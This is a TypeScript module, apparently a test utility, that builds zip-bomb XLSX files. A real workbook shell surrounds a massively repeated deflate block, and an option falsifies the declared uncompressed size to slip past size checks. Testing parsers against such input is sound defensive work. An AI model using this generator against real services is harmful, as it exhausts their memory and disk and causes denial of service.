/**
 * Builds zip bombs on disk without holding them in memory: one deflated megabyte (full flush, so the
 * block is self-contained) is repeated N times, then a final empty block closes the stream.
 */
import { closeSync, openSync, writeSync } from "fs";
import { constants, crc32, deflateRawSync } from "zlib";

export interface BombOptions {
  /** XML repeated inside xl/worksheets/sheet1.xml. */
  unit: string;
  /** Megabytes of inflated sheet XML. */
  megabytes: number;
  /** Size written into the headers; defaults to the truth. A lying bomb declares less. */
  declaredSize?: number;
}

function header(sig: number, length: number): Buffer {
  const b = Buffer.alloc(length);
  b.writeUInt32LE(sig, 0);
  return b;
}

interface Written {
  name: string;
  crc: number;
  csize: number;
  usize: number;
  offset: number;
  method: number;
}

/** Writes the bomb to `path` and returns its size on disk. */
export function writeZipBomb(path: string, options: BombOptions): number {
  const mb = Buffer.alloc(2 ** 20);
  const unit = Buffer.from(options.unit, "utf8");
  for (let i = 0; i < mb.length; i += unit.length) unit.copy(mb, i);
  const block = deflateRawSync(mb, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const fd = openSync(path, "w");
  let offset = 0;
  const out = (b: Buffer): void => {
    writeSync(fd, b);
    offset += b.length;
  };
  const written: Written[] = [];
  const local = (name: string, method: number, crc: number, csize: number, usize: number): void => {
    const nameBytes = Buffer.from(name, "utf8");
    const h = header(0x04034b50, 30);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(method, 8);
    h.writeUInt32LE(crc >>> 0, 14);
    h.writeUInt32LE(csize, 18);
    h.writeUInt32LE(usize, 22);
    h.writeUInt16LE(nameBytes.length, 26);
    written.push({ name, crc, csize, usize, offset, method });
    out(h);
    out(nameBytes);
  };
  const stored = (name: string, text: string): void => {
    const data = Buffer.from(text, "utf8");
    local(name, 0, crc32(data), data.length, data.length);
    out(data);
  };
  stored(
    "[Content_Types].xml",
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  );
  // A real package around the bomb, so that every reader gets as far as inflating the sheet.
  stored(
    "xl/workbook.xml",
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
  );
  stored(
    "xl/_rels/workbook.xml.rels",
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  );
  let crc = 0;
  for (let i = 0; i < options.megabytes; i++) crc = crc32(mb, crc);
  const end = Buffer.from([0x03, 0x00]);
  const usize = options.megabytes * mb.length;
  const csize = block.length * options.megabytes + end.length;
  local("xl/worksheets/sheet1.xml", 8, crc, csize, Math.min(options.declaredSize ?? usize, 0xffffffff));
  for (let i = 0; i < options.megabytes; i++) out(block);
  out(end);
  const cdStart = offset;
  for (const w of written) {
    const nameBytes = Buffer.from(w.name, "utf8");
    const c = header(0x02014b50, 46);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(w.method, 10);
    c.writeUInt32LE(w.crc >>> 0, 16);
    c.writeUInt32LE(w.csize, 20);
    c.writeUInt32LE(w.usize, 24);
    c.writeUInt16LE(nameBytes.length, 28);
    c.writeUInt32LE(w.offset, 42);
    out(c);
    out(nameBytes);
  }
  const e = header(0x06054b50, 22);
  e.writeUInt16LE(written.length, 8);
  e.writeUInt16LE(written.length, 10);
  e.writeUInt32LE(offset - cdStart, 12);
  e.writeUInt32LE(cdStart, 16);
  out(e);
  closeSync(fd);
  return offset;
}
